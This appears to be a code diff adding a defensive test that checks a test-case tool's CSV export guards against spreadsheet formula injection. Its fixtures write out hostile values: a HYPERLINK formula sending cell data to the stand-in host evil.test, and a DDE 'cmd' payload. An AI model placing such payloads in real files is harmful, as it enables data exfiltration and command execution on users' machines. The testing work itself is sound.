@@ -1,4 +1,5 @@
 import { describe, expect, it } from "vitest";
+import { parseCsv } from "@/lib/cases/csv";
 import { call } from "../helpers/api";
 import { createProjectWithOwner } from "../helpers/factories";
 
@@ -65,6 +66,35 @@ describe("test case CSV", () => {
     expect(suites).toEqual(["Web", 'Web > Check, out "now"']);
     // Exporting the copy gives the same file, but for the keys.
     expect((await b.exportCsv()).replaceAll(`${b.project.key}-`, "K-")).toBe(csv.replaceAll(`${a.project.key}-`, "K-"));
+  });
+
+  it("guards formula cells against spreadsheet injection, and the guarded file imports back unchanged", async () => {
+    const a = await setup();
+    const suite = (await a.owner.api.post(`${a.base}/suites`, { name: "@admin" })).body;
+    const hostile = [
+      { title: '=HYPERLINK("http://evil.test/?"&A1,"Click")', preconditions: "+cmd|' /C calc'!A0", tags: ["-x"], suiteId: suite.id },
+      { title: "@SUM(1+1)*cmd", preconditions: "\tindented" },
+      { title: "'=1+1 already quoted" },
+      { title: "-1 is a fine number" },
+    ];
+    for (const c of hostile) expect((await a.owner.api.post(`${a.base}/test-cases`, c)).status).toBe(201);
+    const csv = await a.exportCsv();
+    const records = parseCsv(csv).slice(1);
+    // Every cell a spreadsheet would evaluate starts with an apostrophe instead.
+    for (const r of records) for (const f of r.fields) expect(f, f).not.toMatch(/^[=+\-@\t\r]/);
+    expect(records.map((r) => r.fields[1])).toEqual([
+      `'=HYPERLINK("http://evil.test/?"&A1,"Click")`,
+      "'@SUM(1+1)*cmd",
+      "''=1+1 already quoted",
+      "'-1 is a fine number",
+    ]);
+    expect(records[0].fields.slice(2, 8)).toEqual(["'@admin", "MEDIUM", "FUNCTIONAL", "'-x", "MANUAL", "'+cmd|' /C calc'!A0"]);
+
+    const b = await setup();
+    const imported = await b.importCsv(csv);
+    expect(imported.status, JSON.stringify(imported.body)).toBe(200);
+    expect((await b.cases()).map(content)).toEqual((await a.cases()).map(content));
+    expect((await b.cases()).map((c) => c.title)).toEqual(hostile.map((c) => c.title));
   });
 
   it("updates cases by key with a new version, creates the rest, and honours the filters on export", async () => {
